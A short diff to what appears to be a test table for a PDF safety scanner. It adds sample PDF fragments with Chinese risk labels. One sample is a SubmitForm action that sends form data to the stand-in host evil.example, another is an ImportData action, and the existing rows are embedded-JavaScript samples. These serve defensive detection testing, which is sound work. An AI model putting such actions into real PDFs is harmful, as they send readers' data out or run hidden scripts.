@@ -57,6 +57,8 @@ def owned(password: str, inside: str = "/Plain") -> bytes:
         (b"<< /Type /EmbeddedFile >>", "内嵌文件"),
         (b"<< /Subtype /RichMedia >>", "多媒体"),
         (b"<< /XFA [] >>", "动态表单"),
+        (b"<< /S /SubmitForm /F (http://evil.example) >>", "发往别处"),
+        (b"<< /S /ImportData >>", "从别处取用"),
         (packed(b"<< /A (x >>", b"<< /S /JavaScript >>"), "脚本"),
         (packed(b"<< /S /JavaScript >>", head=b""), "脚本"),
         (stream(b"", b"7 0 obj << /JS (hidden in a stream) >> endobj"), "脚本"),
